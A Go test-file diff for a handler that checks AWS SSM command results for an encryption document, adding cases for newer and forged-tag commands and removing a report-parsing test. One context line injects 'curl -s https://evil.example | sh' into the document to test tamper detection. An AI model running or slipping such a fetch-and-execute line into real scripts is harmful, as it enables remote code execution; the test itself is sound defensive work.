@@ -26,6 +26,8 @@ const (
 var (
 	launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)
 	now      = launched.Add(95 * time.Second)
+	// requested is when the sample events say their command was sent.
+	requested = time.Date(2026, 11, 27, 6, 1, 0, 0, time.UTC)
 )
 
 // report is the document's output: download lines, then the agent's report; the layout
@@ -63,6 +65,18 @@ func TestHandle(t *testing.T) {
 		d := w.Documents[contract.DocumentName]
 		d.Versions = append(d.Versions, strings.Replace(d.Versions[0], "set -eu", "set -eu; curl -s https://evil.example | sh", 1))
 		w.Commands[0].DocumentVersion = "2"
+	}
+	// newer: SSM ran the document again on the instance, after later than this event's
+	// command; its invocation is pending when inv is nil.
+	newer := func(after time.Duration, inv *fakeaws.Invocation) func(*fakeaws.World, *events.CloudWatchEvent) {
+		return func(w *fakeaws.World, _ *events.CloudWatchEvent) {
+			c := &fakeaws.Command{ID: "newer", DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{instanceID},
+				Requested: requested.Add(after), Invocations: map[string]*fakeaws.Invocation{}}
+			if inv != nil {
+				c.Invocations[instanceID] = inv
+			}
+			w.Commands = append(w.Commands, c)
+		}
 	}
 	status := func(s string) func(*fakeaws.World, *events.CloudWatchEvent) {
 		return func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
@@ -109,16 +123,15 @@ func TestHandle(t *testing.T) {
 			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), "storecrypt-apply", "AWS-RunShellScript", 1))
 		}, "", "", "", true},
 		{"still in progress", "ssm-success.json", inv("InProgress", -1, ""), status("InProgress"), "", "", "", true},
-		{"a newer command is pending", "ssm-failed.json", inv("Failed", 1, ""), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
-			w.Instances[instanceID].Tags = map[string]string{contract.TagStatus: contract.StatusPending, contract.TagCommandID: "newer", contract.TagAt: launched.Add(time.Hour).Format(time.RFC3339)}
-		}, contract.StatusPending, "", "", true},
+		{"a newer command is pending", "ssm-failed.json", inv("Failed", 1, ""), newer(30*time.Minute, nil), "", "", "", true},
 		{"a success from before a stop/start", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
 			w.Instances[instanceID].LaunchTime = launched.Add(2 * time.Minute)
 		}, "", "", "", true},
-		{"an older command's result after a newer one's", "ssm-timedout.json", inv("TimedOut", -1, ""), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
-			w.Instances[instanceID].Tags = map[string]string{contract.TagStatus: contract.StatusEncrypted, contract.TagCommandID: "newer",
+		{"an older command's result after a newer one's", "ssm-timedout.json", inv("TimedOut", -1, ""), newer(4*time.Minute, inv("Success", 0, report("ok", 0, ""))), "", "", "", true},
+		{"tags that claim a newer command SSM never ran", "ssm-timedout.json", inv("TimedOut", -1, ""), func(w *fakeaws.World, _ *events.CloudWatchEvent) {
+			w.Instances[instanceID].Tags = map[string]string{contract.TagStatus: contract.StatusEncrypted, contract.TagCommandID: "forged",
 				contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: launched.Add(5 * time.Minute).Format(time.RFC3339)}
-		}, contract.StatusEncrypted, "", "", true},
+		}, contract.StatusFailed, contract.ReasonTimedOut, `"Failed":1`, false},
 		{"no readable requested time", "ssm-success.json", inv("Success", 0, report("ok", 0, "")), func(_ *fakeaws.World, ev *events.CloudWatchEvent) {
 			ev.Detail = json.RawMessage(strings.Replace(string(ev.Detail), "2026-11-27T06:01:00.000Z", "yesterday", 1))
 		}, "", "", "", true},
@@ -140,7 +153,8 @@ func TestHandle(t *testing.T) {
 				t.Fatal(err)
 			}
 			w.With(func() {
-				c := &fakeaws.Command{ID: commandID, DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{instanceID}, Invocations: map[string]*fakeaws.Invocation{}}
+				c := &fakeaws.Command{ID: commandID, DocumentName: contract.DocumentName, DocumentVersion: "1", InstanceIDs: []string{instanceID},
+					Requested: requested, Invocations: map[string]*fakeaws.Invocation{}}
 				if tc.inv != nil {
 					c.Invocations[instanceID] = tc.inv
 				}
@@ -194,17 +208,6 @@ func TestHandle(t *testing.T) {
 				}
 			}
 		})
-	}
-}
-
-func TestParseReport(t *testing.T) {
-	if r := result.ParseReport(report("ok", 0, "")); r == nil || r.Result != "ok" {
-		t.Errorf("got %+v", r)
-	}
-	for _, bad := range []string{"", "no json here", "{\n  \"unrelated\": 1\n}\n", "{\n broken"} {
-		if r := result.ParseReport(bad); r != nil {
-			t.Errorf("%q: got %+v, want nil", bad, r)
-		}
 	}
 }
 
